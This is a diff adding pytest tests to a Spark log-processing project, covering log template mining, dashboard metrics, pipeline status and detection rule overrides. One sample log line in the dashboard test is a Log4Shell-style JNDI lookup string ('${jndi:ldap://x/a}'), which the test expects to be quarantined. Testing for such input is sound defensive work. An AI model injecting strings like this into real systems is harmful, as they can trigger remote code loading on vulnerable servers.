@@ -157,3 +157,43 @@ def test_against_sql(spark, name):
     columns = [d[0] for d in want.description]
     assert sorted(got.columns) == sorted(columns)
     assert _shown(got.select(*columns).collect()) == _shown(want.fetchall())
+
+
+def test_template_store_keeps_keys(spark):
+    schema = "event_id long, source string, content string"
+    one = [(i, "s", f"User {u} logged in from 192.0.2.{i}") for i, u in enumerate(("kim", "lee", "ana"), 1)]
+    two = [(i, "t", f"Disk sd{i} has {i} bad blocks now ok") for i in range(10, 14)]
+    first = T.mine(spark.createDataFrame(two, schema))
+    second = T.mine(spark.createDataFrame(one + two, schema))
+    store = {r["pattern"]: (r["template_key"], r["occurrences"], r["first_id"]) for r in T.saved_templates(first, second).collect()}
+    assert store == {"Disk <*> has <*> bad blocks now ok": ("TPL-0001", 4, 10), "User <*> logged in from <*>": ("TPL-0002", 3, 1)}
+    again = T.saved_templates(T.saved_templates(first, second), second)
+    assert {r["pattern"]: (r["template_key"], r["occurrences"], r["first_id"]) for r in again.collect()} == store
+    old, new = (spark.createDataFrame(x, "event_id long, template_key string") for x in ([(1, "TPL-0001"), (2, "TPL-0001")], [(2, "TPL-0002"), (3, "TPL-0002")]))
+    assert sorted(map(tuple, T.saved_matches(old, new).collect())) == [(1, "TPL-0001"), (2, "TPL-0002"), (3, "TPL-0002")]
+    lines = spark.createDataFrame([(*r, "j") for r in one + two], schema + ", job_id string")
+    assert T.in_scope(lines, "j", "t").count() == 4 and T.in_scope(lines, "k").count() == 0
+    none = T.accounting(T.in_scope(lines, "k")).first()
+    assert (none["records"], none["original_bytes"], none["reduction_pct"], none["reconstruction_rate"], none["lossless"]) == (0, 0, 0.0, 0.0, True)
+    assert T.mismatches(lines).count() == 0 and T.accounting(lines.limit(1)).first()["reduction_pct"] < 0
+
+
+def test_dashboard(spark):
+    from logsluice.operators import export as X
+    from logsluice.operators import pipeline as L
+
+    web = '198.51.100.{} - - [04/Mar/2026:06:07:08 +0000] "GET /x HTTP/1.1" {} 77 "-" "curl/8.0"'
+    lines = [web.format(i, 200 + 100 * (i % 4)) for i in range(8)] + [web.format(1, 300), "", "${jndi:ldap://x/a}"]
+    raw = spark.createDataFrame([("j", "web", i, x) for i, x in enumerate(lines)], "job_id string, source_name string, line_number long, content string")
+    done = L.processed(raw.withColumn("received_at", F.lit("2026-06-01 00:00:00").cast("timestamp")))
+    cards = {r["card"]: r["value"] for r in X.overview(done).collect()}
+    assert cards == {"total": 11, "processed": 8, "invalid": 1, "duplicate": 1, "quarantined": 1, "events": 8, "protected": 0, "sources": 1, "success_rate": 72.7}
+    shown = {(r["chart"], r["label"]): r["value"] for r in X.charts(done).collect()}
+    assert shown["outcomes", "processed"] == 8 and shown["outcomes", "quarantined"] == 1 and shown["by_severity", "high"] == 0 or shown["by_parser", "apache"] == 8
+    alerts = spark.createDataFrame([("NEW", 90, 3), ("RESOLVED", 50, 1)], "status string, risk_score int, events long")
+    story = {r["node"]: (r["records"], r["status"]) for r in X.pipeline_story(done, alerts, 2, 0, "MASK").collect()}
+    assert story["detection"] == (11, "warn") and story["cleaning"] == (2, "warn") and story["risk"] == (2, "warn") and story["alert"] == (1, "critical") and story["correlation"] == (1, "ok") and story["pii"] == (0, "ok")
+    rules = D.with_overrides(spark.createDataFrame([("RULE_1", 9, None, False), ("RULE_8", None, 30, None)], "rule_key string, threshold int, window int, enabled boolean"))
+    assert (rules[0].threshold, rules[0].enabled, rules[0].window, rules[7].window, rules[7].threshold) == (9, False, 120, 30, 100)
+    e = _events(spark, [(1, 1.0, "a", "h", "u", D.FAILED, "linux", None)]).withColumn("ingested_at", F.lit("2030-01-01").cast("timestamp"))
+    assert D.chosen_events(e, "2029-01-01").count() == 1 and D.chosen_events(e, "2031-01-01").count() == 0
